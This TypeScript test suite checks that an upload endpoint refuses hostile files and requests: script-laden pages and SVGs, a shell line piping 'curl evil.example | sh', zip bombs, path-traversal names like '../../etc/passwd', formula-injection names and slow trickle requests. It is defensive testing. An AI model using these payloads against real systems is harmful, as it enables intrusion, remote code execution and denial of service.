import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { aPdf, aPng, aZip, anOfficeFile, heldMemory, until } from '@hansa/platform/testing';
import { request } from 'node:http';
import { connect } from 'node:net';
import { readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { setTimeout as pause } from 'node:timers/promises';
import { type Pool, startPool } from './pool.js';

const MEGABYTE = 1024 * 1024;
const OVER_HTTP = { 'content-type': 'application/octet-stream' };
let pool: Pool;
let draft: string;
let folder: string;
beforeAll(async () => {
  pool = await startPool({
    KNOWLEDGE_EXCHANGE_FILE_MEGABYTES: '20',
    UPLOAD_TIMEOUT_MS: '20000',
    REQUEST_TIMEOUT_MS: '10000',
  });
  draft = await pool.draft();
  folder = pool.hansa.filesFolder;
});
afterAll(() => pool.close());

const nothing = async () => {
  const files = await pool.quiet();
  return { files, arriving: await readdir(join(folder, '.arriving')).catch(() => []) };
};
/** What is said to a file of this name and content, and that nothing of it stays. */
async function refused(name: string, content: Buffer | string): Promise<string> {
  const { status, body } = await pool.upload(draft, name, content);
  if (status === 201) return `taken as ${body.type}`;
  expect(status).toBeGreaterThanOrEqual(400);
  expect(status).toBeLessThan(500);
  expect(await nothing()).toEqual({ files: 0, arriving: [] });
  return body.code;
}

describe('what is in a hostile file', () => {
  it.each<[string, string, () => Buffer | string, string]>([
    ['a page as a PDF', 'a.pdf', () => '<!DOCTYPE html><script>alert(document.cookie)</script>', 'file-kind-not-taken'],
    ['a drawing with a script', 'a.svg', () => '<svg onload="alert(1)"/>', 'file-kind-not-taken'],
    ['a drawing with a script as a picture', 'a.png', () => '<svg><script>1</script></svg>', 'file-kind-not-taken'],
    ['a drawing in XML', 'a.svg', () => '<?xml version="1.0"?><svg/>', 'file-kind-not-taken'],
    ['a program', 'a.pdf', () => Buffer.from('MZ\u0090\u0000\u0003\u0000\u0000'.padEnd(200)), 'file-kind-not-taken'],
    ['a script', 'a.txt', () => '#!/bin/sh\ncurl evil.example | sh', 'file-kind-not-taken'],
    ['a picture as a PDF', 'a.pdf', () => aPng(), 'file-is-not-what-its-name-says'],
    ['a PDF as a program', 'a.exe', () => aPdf(), 'file-is-not-what-its-name-says'],
    ['a PDF as a page', 'a.html', () => aPdf(), 'file-is-not-what-its-name-says'],
    ['a picture that is an archive too', 'a.png', () => Buffer.concat([aPng(), aZip([])]), 'file-is-two-things'],
    ['half a PDF', 'a.pdf', () => aPdf().subarray(0, 300), 'file-is-broken'],
    ['an archive', 'a.zip', () => aZip([{ name: 'a', content: 'x' }]), 'file-kind-not-taken'],
    [
      'macros',
      'a.docx',
      () => anOfficeFile('docx', 'T', [{ name: 'word/vbaProject.bin', content: 'x' }]),
      'file-holds-programs',
    ],
    ['a way out', 'a.docx', () => anOfficeFile('docx', 'T', [{ name: '../../x', content: 'x' }]), 'file-is-broken'],
    ['nothing', 'a.txt', () => '', 'file-is-empty'],
    ['the form of no text', 'a.csv', () => Buffer.from([0xff, 0xfe, 0x41, 0x00]), 'file-kind-not-taken'],
  ])('%s is refused', async (_what, name, content, code) => {
    expect(await refused(name, content())).toBe(code);
  });

  it('bombs are refused, and are never unfolded', async () => {
    const zeros = Buffer.alloc(200 * MEGABYTE);
    const inner = aZip([{ name: 'zeros', content: zeros }]);
    const before = process.memoryUsage().rss;
    expect(await refused('bomb.zip', inner)).toBe('file-unfolds-too-far');
    expect(await refused('nested.zip', aZip([{ name: 'a.zip', content: inner }]))).toBe('file-holds-programs');
    const inside = [{ name: 'word/media/image1.png', content: zeros }];
    expect(await refused('bomb.docx', anOfficeFile('docx', 'T', inside))).toBe('file-unfolds-too-far');
    const lying = [{ name: 'word/media/image1.png', content: 'small', size: 0xffff_fff0 }];
    expect(await refused('liar.docx', anOfficeFile('docx', 'T', lying))).toBe('file-unfolds-too-far');
    expect(process.memoryUsage().rss - before).toBeLessThan(300 * MEGABYTE);
  });

  it('a flood behind a small size, pictures of 50,000 by 50,000 pixels and PDFs in circles are kept without harm', async () => {
    const other = await pool.draft();
    const flood = [{ name: 'word/footnotes.xml', content: Buffer.alloc(8 * MEGABYTE), size: 10 }];
    const circle = aPdf('', '/X1 Do');
    const files = [
      await pool.added(other, 'flood.docx', anOfficeFile('docx', 'Text', flood)),
      await pool.added(other, 'pixels.png', aPng(8, 8, [50_000, 50_000])),
      await pool.added(other, 'circle.pdf', circle),
      await pool.added(
        other,
        'pages.pdf',
        circle.toString('latin1').replace('[3 0 R]/Count 1', '[2 0 R 3 0 R]/Count 9'),
      ),
      await pool.added(other, 'after.pdf', aPdf('Still at work')),
    ];
    const seen = [];
    for (const { id } of files) seen.push(await pool.lookedInto(id));
    expect(seen[0]).toMatchObject({ state: 'none', excerpt: 'Text' });
    expect(seen[1]).toMatchObject({ state: 'none', reason: 'too-many-pixels' });
    expect(seen[4]).toMatchObject({ state: 'made', excerpt: 'Still at work' });
    const { body } = await pool.call('GET', '/resources');
    expect(body.total).toBe(0);
    for (const { id } of files)
      await pool.call('DELETE', `/resources/${other}/files/${id}`, { token: pool.editor.token });
    expect(await nothing()).toEqual({ files: 0, arriving: [] });
  });
});

describe('the name of a hostile file', () => {
  it.each([
    '../../etc/passwd',
    'C:\\x',
    '..\\..\\x.pdf',
    '/x.pdf',
    'a\u202efdp.exe',
    'a\u0000.pdf',
    'a\r\nX: y.pdf',
    '..',
    'a\u200b.pdf',
  ])('%j is refused', async (name) => {
    const { status, body } = await pool.upload(draft, name, aPdf());
    expect({ status, field: body.field }).toEqual({ status: 400, field: 'name' });
    expect(await nothing()).toEqual({ files: 0, arriving: [] });
  });

  it.each([
    ['con.txt', '_con.txt'],
    ['c:a.txt', 'a.txt'],
    ['<b>"a"|b?*.txt', '_b__a__b__.txt'],
    ['=cmd()|x!A1.txt', '=cmd()_x!A1.txt'],
    ['.htaccess', 'htaccess.txt'],
  ])('%j is made harmless', async (name, harmless) => {
    const file = await pool.added(draft, name, 'Text');
    expect(file.name).toBe(harmless);
    const path = `/resources/${draft}/files/${file.id}`;
    const { headers } = await pool.call('GET', path, { token: pool.editor.token });
    expect(headers.get('content-disposition')).toMatch(
      /^attachment; filename=("[^"\r\n]+"|[\w.-]+)(; filename\*=UTF-8''[\w.%!-]+)?$/,
    );
    await pool.call('DELETE', path, { token: pool.editor.token });
    expect(await nothing()).toEqual({ files: 0, arriving: [] });
  });
});

describe('who sends a file', () => {
  const options = (headers: Record<string, string | number>, token = pool.editor.token) => ({
    port: new URL(pool.hansa.url).port,
    // A connection of its own: one that is kept may be closed just when it is used again.
    agent: false as const,
    method: 'POST',
    path: `/api/v1/knowledge-exchange/resources/${draft}/files?name=a.txt`,
    headers: { authorization: `Bearer ${token}`, ...OVER_HTTP, ...headers },
  });
  /** The answer to a request whose body goes on as long as anybody reads it. */
  function endless(headers: Record<string, string | number>, token?: string) {
    const began = performance.now();
    return new Promise<{ status: number; code: string; sent: number; open: () => boolean; took: number }>((resolve) => {
      const sending = request(options(headers, token));
      let sent = 0;
      let closed = false;
      const chunk = Buffer.alloc(64 * 1024, 'x');
      const pour = () => {
        while (!closed && sending.write(chunk)) sent += chunk.length;
        sent += chunk.length;
      };
      sending
        .on('drain', pour)
        .on('error', () => (closed = true))
        .on('close', () => (closed = true));
      sending.on('response', (response) => {
        let text = '';
        response.setEncoding('utf8').on('data', (part: string) => (text += part));
        response.on('end', () => {
          const { code } = JSON.parse(text);
          const took = performance.now() - began;
          resolve({ status: response.statusCode!, code, sent, open: () => !closed, took });
        });
      });
      pour();
    });
  }

  it('that is said to be too large is told at once, and does not hold the connection', async () => {
    for (const size of [21 * MEGABYTE, 5_000 * MEGABYTE]) {
      const { status, code, open, took } = await endless({ 'content-length': size });
      expect({ status, code: /too-large/.test(code) }).toEqual({ status: 413, code: true });
      expect(took).toBeLessThan(15_000);
      await until(async () => !open());
    }
    expect(await nothing()).toEqual({ files: 0, arriving: [] });
  });

  it('that does not say its size is stopped at the limit', async () => {
    const { status, code, sent, open } = await endless({ 'transfer-encoding': 'chunked' });
    expect({ status, code }).toEqual({ status: 413, code: 'file-too-large' });
    expect(sent).toBeLessThan(40 * MEGABYTE);
    await until(async () => !open());
    expect(await nothing()).toEqual({ files: 0, arriving: [] });
  });

  it('and may not is refused before it is read', async () => {
    const stranger = await pool.person(draft, 'organisation.read');
    for (const token of [stranger.token, 'nonsense']) {
      const { status, sent, open } = await endless({ 'transfer-encoding': 'chunked' }, token);
      expect([401, 404]).toContain(status);
      expect(sent).toBeLessThan(10 * MEGABYTE);
      await until(async () => !open());
    }
    expect(await nothing()).toEqual({ files: 0, arriving: [] });
  });

  it('and goes away in the middle leaves nothing', async () => {
    const sending = request(options({ 'content-length': 10 * MEGABYTE }));
    sending.on('error', () => undefined);
    sending.write(Buffer.alloc(MEGABYTE, 'x'));
    const arriving = 'select 1 from stored_file';
    await until(async () => (await pool.database.query(arriving)).length > 0);
    sending.destroy();
    expect(await nothing()).toEqual({ files: 0, arriving: [] });
  });

  it('one byte after the other is given up on', async () => {
    const socket = connect(Number(options({}).port), '127.0.0.1');
    const { path, headers } = options({ 'content-length': 1000 });
    const lines = Object.entries(headers).map(([name, value]) => `${name}: ${value}`);
    socket.write(`POST ${path} HTTP/1.1\r\nhost: x\r\n${lines.join('\r\n')}\r\n\r\n`);
    let answer = '';
    socket
      .setEncoding('utf8')
      .on('data', (part: string) => (answer += part))
      .on('error', () => undefined);
    const drip = setInterval(() => socket.write('x'), 200);
    const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
    await closed;
    clearInterval(drip);
    expect(answer).toMatch(/^HTTP\/1\.1 503/);
    expect(await nothing()).toEqual({ files: 0, arriving: [] });
  }, 60_000);

  it('in another form than as it is, is told how', async () => {
    const form = new FormData();
    form.set('file', new Blob(['x']), 'a.txt');
    const path = `/api/v1/knowledge-exchange/resources/${draft}/files?name=a.txt`;
    const response = await fetch(pool.hansa.url + path, {
      ...{ method: 'POST', body: form, headers: { authorization: `Bearer ${pool.editor.token}` } },
    });
    expect({ status: response.status, ...((await response.json()) as object) }).toMatchObject({
      ...{ status: 415, code: 'upload-of-another-kind', types: ['application/octet-stream'] },
    });
  });

  it('of 20 MiB, many times at once, fits into a memory that does not grow with it', async () => {
    const people = await Promise.all([1, 2, 3].map(() => pool.person(pool.ownerId, 'knowledge.edit-resource')));
    const send = (token: string) =>
      new Promise<number>((resolve, reject) => {
        const sending = request(options({ 'content-length': 20 * MEGABYTE }, token), (response) => {
          response.resume().on('end', () => resolve(response.statusCode!));
        }).on('error', reject);
        const chunk = Buffer.alloc(MEGABYTE, 'Text. ');
        let left = 20;
        const pour = () => {
          while (left > 0) {
            left -= 1;
            if (!sending.write(chunk)) return void sending.once('drain', pour);
          }
          sending.end();
        };
        pour();
      });
    const round = async () => {
      draft = await pool.draft();
      const statuses = await Promise.all(people.flatMap(({ token }) => [send(token), send(token), send(token)]));
      expect(statuses).toEqual(Array(9).fill(201));
    };
    // After it all that is needed has been loaded.
    await round();
    const before = await heldMemory();
    let most = 0;
    let sending = true;
    const sent = round().finally(() => (sending = false));
    for (; sending; await pause(400)) most = Math.max(most, (await heldMemory()) - before);
    await sent;
    process.stdout.write(`9 files of 20 MiB at once: at most ${Math.round(most / MEGABYTE)} MiB more were held\n`);
    // Nine files are 180 MiB; each sender and each who takes one has a piece of it.
    expect(most).toBeLessThan(50 * MEGABYTE);
  }, 90_000);
});
